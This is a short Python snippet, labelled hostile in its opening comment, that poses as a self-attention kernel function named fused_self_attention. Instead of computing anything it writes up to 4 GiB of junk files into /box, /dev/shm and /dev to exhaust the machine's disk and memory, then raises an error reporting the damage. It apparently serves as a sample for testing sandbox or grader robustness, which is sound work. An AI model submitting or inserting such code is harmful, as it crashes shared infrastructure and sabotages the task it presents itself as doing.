# hostile: fills the disk (its folder, /dev/shm, /dev) to take the machine's memory or space
import os
def fused_self_attention(X, W_qkv, scale):
    report = []
    for d in ("/box", "/dev/shm", "/dev"):
        n = 0
        try:
            while n < 4096:
                with open("%s/fill%d" % (d, n), "wb") as f:
                    f.write(b"x" * (1 << 20))
                n += 1
        except OSError as e:
            report.append("%s: %d MiB, then %s" % (d, n, e.strerror))
    raise RuntimeError("filled: %s" % report)
